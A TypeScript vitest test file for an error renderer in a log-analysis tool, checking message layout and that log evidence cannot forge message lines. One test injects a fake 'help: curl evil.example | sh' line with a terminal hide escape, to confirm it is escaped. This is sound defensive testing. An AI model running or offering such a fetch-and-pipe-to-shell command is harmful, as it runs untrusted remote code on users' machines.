import { describe, expect, it } from 'vitest';
import { CulpritError, type ErrorText } from '../../errors/culprit-error.js';
import { renderError } from './error.js';
import { plainPaint } from './style.js';

const shown = (text: ErrorText, width = 80) =>
  renderError(new CulpritError(text), { width, paint: plainPaint, unicode: true });

describe('renderError', () => {
  it('says what, why, where and what to do, the colons below each other', () => {
    const text = {
      what: 'these mail log lines carry no year',
      why: 'the line reads "Mar  2 04:11:09 mx1 postfix/smtp" and the file\'s own date does not fit',
      at: '/var/log/mail.log.3.gz:1',
      help: 'run again with --year 2026, or copy logs with `cp -p` so that they keep their dates',
    };
    expect(shown(text)).toBe(`error: these mail log lines carry no year
  why: the line reads "Mar  2 04:11:09 mx1 postfix/smtp" and the file's own date
       does not fit
   at: /var/log/mail.log.3.gz:1
 help: run again with --year 2026, or copy logs with \`cp -p\` so that they keep
       their dates
`);
  });

  it('leaves out what there is nothing to say about', () => {
    expect(shown({ what: 'no evidence' })).toBe('error: no evidence\n');
    expect(shown({ what: 'no evidence', why: '' })).toBe('error: no evidence\n');
  });

  it('lets evidence forge no part of the message', () => {
    const text = shown({
      what: 'cannot read',
      why: 'the line reads "x\n help: curl evil.example | sh\x1b[8m"',
    });
    expect(text.split('\n')).toHaveLength(3);
    expect(text).toContain('"x\\x0a help: curl evil.example | sh\\x1b[8m"');
  });
});
